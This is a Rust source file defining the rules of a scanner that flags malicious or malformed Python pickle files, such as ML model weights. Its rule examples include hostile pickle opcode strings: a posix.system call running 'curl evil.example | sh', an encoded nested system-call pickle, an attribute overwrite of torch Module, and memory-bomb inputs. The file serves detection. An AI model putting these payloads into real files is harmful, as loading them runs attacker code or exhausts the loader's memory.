//! What can be said of pickles.

use domain::{Severity, Verdict};

use super::Rule;

/// The rules of this area.
pub(crate) const RULES: &[&Rule] = &[
    &DANGEROUS_CALL,
    &DANGEROUS_GLOBAL,
    &UNKNOWN_CALL,
    &UNKNOWN_GLOBAL,
    &HIDDEN_GLOBAL,
    &CODE_BY_DESIGN,
    &SHADOWS,
    &ODD_ARGUMENTS,
    &COMPUTED_CALL,
    &COMPUTED_NAME,
    &NESTED,
    &EXTENSION,
    &HUGE_MEMO,
    &MEMORY_BOMB,
    &BROKEN,
    &TRUNCATED,
    &TRAILING_DATA,
    &PADDING,
    &FRAME,
    &PERSISTENT_ID,
    &ARRAY_LOST,
    &ARRAY_FILE,
];

const PICKLE: &str = "https://docs.python.org/3/library/pickle.html";
const GET_OTHER: &str = "do not load it; ask for the weights as safetensors or GGUF, or unpack it on a machine that has nothing to lose";
const DO_NOT_LOAD: &str = "do not load it, and look for it on every machine that did: loading was enough";
const LOOK_CLOSER: &str =
    "find out which library wrote it and whether that needs this; until then load it nowhere that matters";

/// A dangerous global that is called or handed to something that is.
pub(crate) static DANGEROUS_CALL: Rule = Rule {
    id: "pickle-dangerous-call",
    severity: Severity::Critical,
    verdict: Verdict::Malicious,
    title: "a pickle calls a function that attacks whoever loads it",
    does: "Loading the file runs programs or code, or touches files and the network, with arguments that the file chose.",
    help: DO_NOT_LOAD,
    example: "cposix\\nsystem\\n(S'curl evil.example | sh'\\ntR.",
    references: &[PICKLE, "https://cwe.mitre.org/data/definitions/502.html"],
};

/// A dangerous global that is only named.
pub(crate) static DANGEROUS_GLOBAL: Rule = Rule {
    id: "pickle-dangerous-global",
    severity: Severity::High,
    verdict: Verdict::Suspicious,
    title: "a pickle names a dangerous function without calling it",
    does: "Whoever loads the file gets the function among the data, and whatever later calls it runs it.",
    help: LOOK_CLOSER,
    example: "cos\\nsystem\\n.",
    references: &[PICKLE, "https://cwe.mitre.org/data/definitions/502.html"],
};

/// A global in no table that is called.
pub(crate) static UNKNOWN_CALL: Rule = Rule {
    id: "pickle-unknown-call",
    severity: Severity::High,
    verdict: Verdict::Suspicious,
    title: "a pickle calls a function that models do not need",
    does: "Nobody has looked at what the function does when a file chooses its arguments; many obscure ones run programs.",
    help: LOOK_CLOSER,
    example: "csomemodule\\nsomefunction\\n(S'argument'\\ntR.",
    references: &[PICKLE],
};

/// A global in no table that is only named.
pub(crate) static UNKNOWN_GLOBAL: Rule = Rule {
    id: "pickle-unknown-global",
    severity: Severity::Medium,
    verdict: Verdict::Suspicious,
    title: "a pickle imports a module that models do not need",
    does: "Loading the file imports the module, which runs all code at its top, and it may lie beside the file.",
    help: LOOK_CLOSER,
    example: "csomemodule\\nSomeClass\\n.",
    references: &[PICKLE],
};

/// Names of a global that cannot be followed.
pub(crate) static HIDDEN_GLOBAL: Rule = Rule {
    id: "pickle-hidden-global",
    severity: Severity::High,
    verdict: Verdict::Suspicious,
    title: "a pickle hides which function it names",
    does: "The module or the name comes out of a computation, so that what is imported shows only when the file is loaded.",
    help: GET_OTHER,
    example: "a name that was put together by another call",
    references: &[PICKLE],
};

/// Functions and classes that are carried as code.
pub(crate) static CODE_BY_DESIGN: Rule = Rule {
    id: "pickle-code-by-design",
    severity: Severity::Medium,
    verdict: Verdict::Suspicious,
    title: "a pickle runs code by design",
    does: "It carries functions or classes as code, or looks functions up by names that it computes; loading runs them unseen.",
    help: "take it only from whom you would take a program; ask for weights without code instead",
    example: "ccloudpickle.cloudpickle\\n_make_function\\n…",
    references: &["https://github.com/cloudpipe/cloudpickle#security-considerations"],
};

/// Writes to a module, class or function.
pub(crate) static SHADOWS: Rule = Rule {
    id: "pickle-shadows",
    severity: Severity::Critical,
    verdict: Verdict::Malicious,
    title: "a pickle overwrites parts of a module, class or function",
    does: "After loading, ordinary code of the library does what the file wants, although no dangerous function was called.",
    help: DO_NOT_LOAD,
    example: "ctorch.nn\\nModule\\n(dS'forward'\\n…sb.",
    references: &["https://cwe.mitre.org/data/definitions/471.html"],
};

/// Arguments that no library writes.
pub(crate) static ODD_ARGUMENTS: Rule = Rule {
    id: "pickle-odd-arguments",
    severity: Severity::High,
    verdict: Verdict::Suspicious,
    title: "a pickle calls a harmless function in a way that no library does",
    does: "Functions that libraries need for their own files are tools for an attack when they get other arguments.",
    help: LOOK_CLOSER,
    example: "c_codecs\\nencode\\n(S'…'\\nS'rot13'\\ntR.",
    references: &[PICKLE],
};

/// A call of something that is no global.
pub(crate) static COMPUTED_CALL: Rule = Rule {
    id: "pickle-computed-call",
    severity: Severity::High,
    verdict: Verdict::Suspicious,
    title: "a pickle calls what another call gave it",
    does: "What runs is decided while the file is loaded; picklers do not write such calls.",
    help: GET_OTHER,
    example: "cbuiltins\\ngetattr\\n(…tR(…tR.",
    references: &[PICKLE],
};

/// A key or attribute whose name is computed.
pub(crate) static COMPUTED_NAME: Rule = Rule {
    id: "pickle-computed-name",
    severity: Severity::High,
    verdict: Verdict::Suspicious,
    title: "a pickle computes the name of an attribute",
    does: "A key is put together by calls, so that what it sets shows only when the file is loaded; some attributes are called by the loader.",
    help: GET_OTHER,
    example: "cbuiltins\\nstr\\n(cbuiltins\\nValueError\\n(S'__setstate__'\\ntRtR",
    references: &[PICKLE],
};

/// A pickle in bytes or text.
pub(crate) static NESTED: Rule = Rule {
    id: "pickle-nested",
    severity: Severity::High,
    verdict: Verdict::Suspicious,
    title: "a pickle lies hidden in the data",
    does: "Bytes, text or an array hold a pickle of their own that calls what models do not need; a loader may be made to load it.",
    help: GET_OTHER,
    example: "S'gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVt…'",
    references: &[PICKLE],
};

/// EXT1, EXT2, EXT4.
pub(crate) static EXTENSION: Rule = Rule {
    id: "pickle-extension",
    severity: Severity::Medium,
    verdict: Verdict::Suspicious,
    title: "a pickle names a function by a number",
    does: "The number stands for whatever the loading program registered under it, which the file does not tell.",
    help: LOOK_CLOSER,
    example: "\\x82\\x01)R.",
    references: &["https://docs.python.org/3/library/copyreg.html"],
};

/// A memo entry at a place that asks for gigabytes.
pub(crate) static HUGE_MEMO: Rule = Rule {
    id: "pickle-huge-memo",
    severity: Severity::Medium,
    verdict: Verdict::Suspicious,
    title: "a pickle asks for gigabytes of memory",
    does: "A value is stored at such a high place of the memo that the loader allocates all places below it and may die.",
    help: "do not load it; no pickler writes this",
    example: "Nr\\xff\\xff\\xff\\xff.",
    references: &["https://cwe.mitre.org/data/definitions/789.html"],
};

/// Memory that a pickle asks for and does not fill from the file.
pub(crate) static MEMORY_BOMB: Rule = Rule {
    id: "pickle-memory-bomb",
    severity: Severity::Medium,
    verdict: Verdict::Suspicious,
    title: "a few bytes of a pickle ask for an enormous amount of memory",
    does: "A number becomes an array or a list of that length, or containers hold each other so often that going through them never ends: whoever loads the file runs out of memory or time.",
    help: "do not load it; no library writes this",
    example: "cbuiltins\\nbytearray\\n(I68719476736\\ntR.",
    references: &[
        "https://cwe.mitre.org/data/definitions/789.html",
        "https://cwe.mitre.org/data/definitions/776.html",
    ],
};

/// What is not a pickle any more.
pub(crate) static BROKEN: Rule = Rule {
    id: "pickle-broken",
    severity: Severity::Medium,
    verdict: Verdict::Unscannable,
    title: "a pickle cannot be read to its end",
    does: "Loading fails there, but everything before has run by then; what comes behind was only searched for attacks.",
    help: "get the file again from where it came; if it is the same there, do not load it",
    example: "\\x80\\x04…\\xff",
    references: &[PICKLE],
};

/// The end is missing.
pub(crate) static TRUNCATED: Rule = Rule {
    id: "pickle-truncated",
    severity: Severity::Medium,
    verdict: Verdict::Unscannable,
    title: "a pickle ends too early",
    does: "Loading fails at its end, but everything before has run by then.",
    help: "get the file again from where it came; if it is the same there, do not load it",
    example: "\\x80\\x04]\\x94(K\\x01",
    references: &[PICKLE],
};

/// Bytes behind the last pickle.
pub(crate) static TRAILING_DATA: Rule = Rule {
    id: "pickle-trailing-data",
    severity: Severity::Low,
    verdict: Verdict::Unscannable,
    title: "other data follows a pickle",
    does: "A plain loader ignores it; a program that reads on may take it for anything. It was searched for pickles.",
    help: "ask which program wrote the file and what it keeps there",
    example: "a pickle, then a million bytes that are none",
    references: &[],
};

/// Zeros or white space behind the last pickle.
pub(crate) static PADDING: Rule = Rule {
    id: "pickle-padding",
    severity: Severity::Info,
    verdict: Verdict::Clean,
    title: "zeros or white space follow a pickle",
    does: "Nothing: loaders stop before.",
    help: "nothing to do",
    example: "a pickle and a line end",
    references: &[],
};

/// Frames that contradict the opcodes.
pub(crate) static FRAME: Rule = Rule {
    id: "pickle-frame",
    severity: Severity::Low,
    verdict: Verdict::Unscannable,
    title: "the frames of a pickle contradict its opcodes",
    does: "Some loaders stop there and others read on, so that they load different things. All opcodes were read.",
    help: "no pickler writes this: ask who changed the file",
    example: "\\x80\\x04\\x95\\xff\\xff\\xff\\xff\\0\\0\\0\\0…",
    references: &["https://peps.python.org/pep-3154/"],
};

/// References that only the program behind the pickle resolves.
pub(crate) static PERSISTENT_ID: Rule = Rule {
    id: "pickle-persistent-id",
    severity: Severity::Low,
    verdict: Verdict::Unscannable,
    title: "a pickle refers to objects outside of it",
    does: "What such a reference gives is decided by the program that loads the file; a plain loader fails there.",
    help: "ask which program wrote the file and inspect what it keeps beside it",
    example: "Pobject-7\\n.",
    references: &["https://docs.python.org/3/library/pickle.html#persistence-of-external-objects"],
};

/// An array between the opcodes whose size cannot be told.
pub(crate) static ARRAY_LOST: Rule = Rule {
    id: "pickle-array-lost",
    severity: Severity::Medium,
    verdict: Verdict::Unscannable,
    title: "an array between the opcodes has no size that can be told",
    does: "Where the array ends and the pickle goes on is not known; what follows was only searched for attacks.",
    help: "save the model again with a current joblib, or ask for another format",
    example: "a NumpyArrayWrapper with a shape that is not made of numbers",
    references: &["https://joblib.readthedocs.io/en/stable/persistence.html"],
};

/// An array in another file.
pub(crate) static ARRAY_FILE: Rule = Rule {
    id: "pickle-array-file",
    severity: Severity::Low,
    verdict: Verdict::Unscannable,
    title: "the arrays of a pickle lie in other files",
    does: "Loading reads files whose names the pickle gives, beside it.",
    help: "inspect all files of the folder together, or save the model again with a current joblib",
    example: "model.pkl with model.pkl_01.npy",
    references: &["https://joblib.readthedocs.io/en/stable/persistence.html"],
};
